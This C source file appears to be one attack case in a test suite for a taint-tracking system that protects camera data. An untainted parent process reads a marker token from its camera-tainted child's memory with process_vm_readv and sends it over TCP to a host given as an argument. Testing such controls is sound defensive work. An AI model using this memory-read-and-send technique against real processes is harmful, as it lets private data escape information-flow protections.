/* ptrace_peek.c - attack: an untainted parent reads the frame bytes out of its tainted child's memory with process_vm_readv and sends them to a third party. */
#include <signal.h>
#include <sys/uio.h>
#include <sys/wait.h>

#include "attack.h"

#define ROUTE "ptrace_peek"

/* Where the child keeps its "frame": the same address in both after fork. */
static char frame[128];

/*
 * usage: ptrace_peek CAMERA A.B.C.D:PORT
 * The child opens the camera (it alone is tainted), puts its bytes in
 * memory and waits. The parent never opens a camera and reads nothing the
 * child writes to any channel: it copies the bytes out of the child's
 * memory (root here, so ptrace rights) and sends them.
 */
int main(int argc, char **argv)
{
	struct sockaddr_storage ss;
	char got[sizeof(frame)];
	struct iovec local = { .iov_base = got, .iov_len = sizeof(got) };
	struct iovec remote = { .iov_base = frame, .iov_len = sizeof(frame) };
	socklen_t len;
	ssize_t n = -1;
	int sock, rc = 0;
	pid_t child;

	if (argc != 3) {
		fprintf(stderr, "usage: " ROUTE " CAMERA A.B.C.D:PORT\n");
		return 2;
	}
	at_need_inet(ROUTE, argv[2], &ss, &len);
	fflush(stdout);
	child = fork();
	if (child < 0)
		return at_report_errno(ROUTE, "fork", errno);
	if (child == 0) {
		at_taint(ROUTE, argv[1]);
		at_token(frame, sizeof(frame), ROUTE);
		pause();
		_exit(0);
	}
	/* Until the child has its bytes in place: every token starts "bf-attack ". */
	for (int i = 0; i < 200; i++) {
		n = process_vm_readv(child, &local, 1, &remote, 1, 0);
		if (n < 0 || strncmp(got, "bf-attack ", 10) == 0)
			break;
		usleep(10000);
	}
	if (n < 0) {
		rc = at_report_errno(ROUTE, "process_vm_readv of the tainted child", errno);
	} else if (strncmp(got, "bf-attack ", 10) != 0) {
		at_result(ROUTE, "error", "the child never put its bytes in place");
		rc = 1;
	} else {
		size_t k = strnlen(got, sizeof(got));

		sock = socket(ss.ss_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
		if (sock < 0 || connect(sock, (struct sockaddr *)&ss, len) < 0)
			rc = at_report_errno(ROUTE, "connect after reading the child's memory", errno);
		else if (send(sock, got, k, MSG_NOSIGNAL) != (ssize_t)k)
			rc = at_report_errno(ROUTE, "send", errno);
		else
			at_result(ROUTE, "through", "read %zu bytes out of the tainted child's memory and sent them", k);
	}
	kill(child, SIGKILL);
	waitpid(child, NULL, 0);
	return rc;
}
